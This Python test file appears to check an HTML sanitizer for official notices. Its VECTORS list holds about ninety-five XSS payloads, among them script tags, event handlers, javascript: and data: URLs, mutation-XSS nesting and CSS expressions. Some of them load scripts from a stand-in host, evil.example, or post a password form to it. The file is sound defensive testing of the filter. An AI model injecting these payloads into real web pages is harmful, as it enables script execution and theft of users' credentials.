import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gongkai.foundation.objections import Refused
from gongkai.vault.html import LONGEST, clean, plain

ALERT = "alert(1)"
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
    "<script/x>alert(1)</script >",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "</p><script>alert(1)</script>",
    "<p onclick=alert(1)>正文</p>",
    "<p ONCLICK='alert(1)'>正文</p>",
    "<p/onmouseover=alert(1)>正文</p>",
    "<p\nonmouseover\n=\nalert(1)>正文</p>",
    "<p\x0confocus=alert(1) tabindex=1 autofocus>正文</p>",
    "<td onpointerenter=alert(1)>格</td>",
    "<table background='javascript:alert(1)'><tr><td>格</td></tr></table>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=x onerror=alert(1)></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href='data:,alert(1)'></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>点</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><desc><table><tr><td><p title='</desc><script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>点</math>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>点</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=javascript:alert(1)>",
    "<a href=javascript:alert(1)>点</a>",
    "<a href='java&#115;cript:alert(1)'>点</a>",
    "<a href='jav\tascript:alert(1)'>点</a>",
    "<a href='&#1;javascript:alert(1)'>点</a>",
    "<a href='vbscript:msgbox(1)'>点</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>点</a>",
    "<a href='//evil.example' target=_blank ping='//evil.example'>点</a>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<link rel=import href='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>正文</p>",
    "<p style='width:expression(alert(1))'>正文</p>",
    "<p style='behavior:url(#default#time2)'>正文</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>正文</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>盖住全页</p>",
    "<p style='text-indent:-9999px'>看不见的字</p>",
    "<p style='text-align:center;color:white'>看不见的字</p>",
    "<p style='text-align:url(//evil.example)'>正文</p>",
    "<p style='text-indent:expression(alert(1))'>正文</p>",
    "<p style='text-indent:2em;}</style><script>alert(1)</script>'>正文</p>",
    "<form action='//evil.example'><input name=p type=password><button>登录</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>点</button>",
    "<select onchange=alert(1)><option>x</option></select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>点</details>",
    "<marquee onstart=alert(1)>点</marquee>",
    "<body onload=alert(1)>",
    "<html xmlns:x='urn:x' onclick=alert(1)>",
    "<dialog open onclose=alert(1)>点</dialog>",
    "<x-element onclick=alert(1)>点</x-element>",
    "<p id=location name=x class=btn data-bs-toggle=modal hx-get=/office/ hx-trigger=load>正文</p>",
    "<!--><script>alert(1)</script-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p title=\"`><img src=x onerror=alert(1)>\">正文</p>",
    "<td colspan='1\" onclick=alert(1)'>格</td>",
    "<table><tr><td colspan=99999999 rowspan=-1>格</td></tr></table>",
    "<strong><p><a><strong><script>alert(1)</script>",
]  # fmt: skip
MARKUP_ALLOWED = {
    "h1", "h2", "h3", "h4", "p", "br", "strong", "em", "u", "s", "sup", "sub", "ol", "ul", "li",
    "table", "thead", "tbody", "tr", "th", "td", "blockquote",
}  # fmt: skip


def markup_of(html):
    """Every element and attribute that an independent parser sees."""
    from lxml import html as reader

    tree = reader.fromstring(f"<div>{html}</div>")
    elements = [element for element in tree.iter() if element is not tree]
    return {element.tag for element in elements}, [(name, value) for element in elements for name, value in element.attrib.items()]


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_that_could_run_or_hide_passes_the_filter(vector):
    cleaned = clean(vector)
    tags, attributes = markup_of(cleaned)
    assert tags <= MARKUP_ALLOWED
    for name, value in attributes:
        assert name in {"style", "colspan", "rowspan"}
        if name == "style":
            assert value in {"text-align: center", "text-indent: 2em"}
        else:
            assert value.isdigit()
            assert 1 < int(value) < 1000
    assert clean(cleaned) == cleaned


def test_there_are_enough_vectors_and_none_twice():
    assert len(set(VECTORS)) == len(VECTORS) >= 60


@pytest.mark.parametrize(
    "kept",
    [
        '<p style="text-align: center">关于公开的通知</p>',
        '<p style="text-align: right; text-indent: 2em">2024年1月1日</p>',
        '<h1 style="text-align: center">通知</h1><h2>一</h2><h3>二</h3><h4>三</h4>',
        "<p><strong>粗</strong><em>斜</em><u>下划</u><s>删</s>x<sup>2</sup>H<sub>2</sub>O<br>换行</p>",
        "<ol><li>一<ul><li>甲</li></ul></li><li>二</li></ol>",
        '<table><thead><tr><th colspan="2">表头</th></tr></thead><tbody><tr><td rowspan="2">甲</td><td>乙</td></tr></tbody></table>',
        "<blockquote><p>引文</p></blockquote>",
        "<p>　　全角缩进，  两个空格，1 &lt; 2 &amp; 3 &gt; 2，𠮷字，👨‍👩‍👧。</p>",
    ],
)
def test_what_an_official_text_needs_passes_unchanged(kept):
    assert clean(kept) == kept


def test_marks_that_would_show_a_line_in_another_order_are_taken_out():
    assert clean("<p>同意\u202e拨款\u202c一百\u2066万\u2069元\ufeff</p>") == "<p>同意拨款一百万元</p>"


@pytest.mark.parametrize(
    ("html", "code"),
    [("字" * (LONGEST + 1), "markup_too_large"), ("<em>" * 5000 + "<p>x" * 100, "markup_too_deep"), ("<b>" * 201, "markup_too_deep")],
)
def test_what_would_keep_the_filter_busy_is_refused(html, code):
    with pytest.raises(Refused) as refused:
        clean(html)
    assert refused.value.codes == {code}


PIECES = [
    "<p>", "</p>", "<strong>", "</strong>", "<table>", "<tr>", "<td>", "</table>", "<li>", "<ol>", "</ol>", "字", " ", "\n",
    "<!--", "-->", "<svg>", "</svg>", "&lt;script&gt;", "&#x202e;", "&#0;", "<br>", "'", '"', "<p style='text-indent:2em'>", "<math>",
    "<mtext>", "<style>", "</style>", "<title>", "</title>", "<h1>", "<blockquote>",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@example(["<li>", "<table>", "<li>"])
@given(st.lists(st.sampled_from(PIECES), max_size=30))
def test_cleaning_again_changes_nothing(parts):
    once = clean("".join(parts))
    assert clean(once) == once
    assert markup_of(once)[0] <= MARKUP_ALLOWED


def test_the_text_has_one_line_for_each_paragraph_item_and_row():
    html = (
        "<h1>标题</h1>\n<p>　　第一段<strong>重点</strong>。<br>第二行</p><p></p><p>&nbsp;</p>"
        "<ol><li>一<ul><li>甲</li></ul></li><li>二</li></ol>"
        "<table><thead><tr><th>姓名</th><th>数额</th></tr></thead><tbody>"
        "<tr><td><p>张</p><p>三</p></td><td></td></tr>"
        "<tr><td>外<table><tbody><tr><td>内</td></tr></tbody></table></td><td>3 &lt; 4</td></tr></tbody></table>"
        "<blockquote>引</blockquote>尾"
    )
    assert plain(html).split("\n") == [
        "标题", "　　第一段重点。", "第二行", "一", "甲", "二", "姓名\t数额", "张 三\t", "外 内\t3 < 4", "引", "尾",
    ]  # fmt: skip


def test_the_text_carries_no_markup_of_what_was_filtered_out():
    assert plain("<p>正文<script>alert(1)</script><style>p{}</style></p>") == "正文"


def test_how_the_source_was_wrapped_is_not_part_of_the_text():
    assert plain("<p>\n  one\n  two\n</p>\n\n<p>三  四</p>") == "one two\n三  四"
